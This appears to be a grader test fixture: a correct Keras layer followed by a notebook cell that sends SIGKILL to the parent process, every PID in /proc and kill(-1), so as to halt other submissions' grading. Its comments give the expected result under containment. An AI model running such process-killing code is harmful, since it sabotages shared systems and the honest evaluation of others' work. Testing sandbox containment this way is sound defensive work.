# A correct layer whose notebook, once the class is defined, sends SIGKILL to every process it
# may signal (kill(-1)), then to its parent and to the processes it can see in /proc, to end the
# grading of everyone else. Contained, it can signal only what it started itself; it ends its
# own demo cell (and with it its kernel, as it would in Jupyter), so it is graded on nothing.
# expect: zero
# ending: crashed
class SimpleDense(tf.keras.layers.Layer):
    def __init__(self, units=32):
        super().__init__()
        self.units = units

    def build(self, input_shape):
        self.kernel = self.add_weight(name="kernel", shape=(input_shape[-1], self.units),
                                      initializer=tf.random_normal_initializer(), trainable=True)
        self.bias = self.add_weight(name="bias", shape=(self.units,), initializer="zeros", trainable=True)

    def call(self, inputs):
        return tf.matmul(inputs, self.kernel) + self.bias
# %% cell
import os
import signal

for target in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
